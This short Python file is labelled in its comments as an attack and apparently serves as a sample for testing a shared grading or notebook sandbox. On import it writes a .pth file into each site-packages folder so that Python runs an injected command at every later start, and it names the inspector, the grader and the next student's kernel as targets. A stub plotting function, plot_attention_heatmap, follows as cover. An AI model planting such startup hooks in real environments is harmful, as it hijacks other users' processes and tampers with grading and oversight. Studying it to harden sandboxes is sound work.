# Attack (writing): plants a .pth file in the virtualenv, which Python runs at every start of
# every later process: the inspector, the grader, the next student's kernel.
import os
import site
import sys

for _folder in site.getsitepackages() + [os.path.join(sys.prefix, "lib")]:
    try:
        with open(os.path.join(_folder, "zz_pwned.pth"), "w") as handle:
            handle.write("import os; os.system('touch /tmp/pwned-by-pth')\n")
        print("planted in", _folder)
    except OSError as error:
        print("cannot plant in", _folder, type(error).__name__)


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
